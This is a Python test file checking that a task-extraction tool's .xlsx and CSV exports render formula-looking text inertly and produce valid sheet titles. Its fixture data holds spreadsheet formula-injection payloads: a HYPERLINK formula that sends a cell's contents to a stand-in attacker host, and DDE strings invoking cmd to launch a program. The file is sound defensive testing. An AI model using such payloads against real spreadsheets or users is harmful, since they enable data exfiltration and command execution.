"""Exports are data, never code: formula-looking text stays text in every .xlsx and CSV export."""

from __future__ import annotations

import csv
import io
from pathlib import Path

from openpyxl import load_workbook

from index import Searcher
from ingest import parse_text
from tests.fakes import KeywordEmbedder
from web.cells import FORMULA_START
from web.render import citations_csv, tasks_csv
from web.tasks import Task, department_tasks, write_xlsx

#: Text an attacker puts in a notice: each line a formula a spreadsheet would run.
ATTACKS = ['=HYPERLINK("http://attacker.example/?q="&A1,"点此")', "=1+2", "@SUM(A1:A9)", "+cmd|' /C calc'!A0", "-2+3"]
NOTICE = '=HYPERLINK("http://attacker.example","某市工作方案")\n一、任务\n' + "\n".join(
    f"{n}.{text}（牵头单位：市发改委）" for n, text in enumerate(ATTACKS, 1)
)


def _tasks() -> list[Task]:
    chunks = parse_text(NOTICE, "evil").chunks
    department = "市发改委"
    found = department_tasks(chunks, department)
    assert len(found) == len(ATTACKS)
    # the worst case too: every field of a row begins like a formula
    return [*found, Task(*(["=1+2"] * 12))]


def test_no_formula_cell_in_the_task_xlsx_and_the_sheet_title_is_valid(tmp_path: Path) -> None:
    path = write_xlsx(_tasks(), "市发改委/市财政局:[专项组]*?", tmp_path / "tasks.xlsx")
    sheet = load_workbook(path).active
    cells = [cell for row in sheet.iter_rows() for cell in row if cell.value is not None]
    assert cells and not [c.coordinate for c in cells if c.data_type == "f"]
    assert any(str(c.value).startswith("=HYPERLINK") for c in cells)  # the text is kept, as text
    assert sheet.title == "市发改委 市财政局 专项组" and len(sheet.title) <= 31


def test_no_csv_cell_starts_a_formula(tmp_path: Path) -> None:
    searcher = Searcher.build(parse_text(NOTICE, "evil").chunks, embedder=KeywordEmbedder(), cache_dir=tmp_path)
    answer = searcher.answer("=1+2 HYPERLINK", k=5)
    answer.query = "=cmd|' /C calc'!A0"
    for text in (tasks_csv(_tasks()), citations_csv(answer, "@now")):
        rows = list(csv.reader(io.StringIO(text.lstrip("\ufeff"))))
        cells = [cell for row in rows for cell in row]
        assert cells and not [c for c in cells if c.startswith(FORMULA_START)]
        assert any(c.startswith("'=") for c in cells)  # neutralised, not dropped
